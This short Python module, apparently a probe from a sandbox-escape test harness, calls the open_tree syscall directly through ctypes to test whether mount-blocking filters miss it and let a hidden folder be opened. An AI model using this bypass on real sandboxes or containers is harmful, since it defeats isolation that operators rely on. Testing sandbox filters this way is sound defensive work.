"""Uses the calls that filters of mount forget: here the one that opens a tree of files."""

import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


OPEN_TREE = 428  # on every architecture
HERE = -100


def attack(world):
    return checked(LIBC.syscall(OPEN_TREE, HERE, world["hidden_folder"].encode(), 0)) > 0
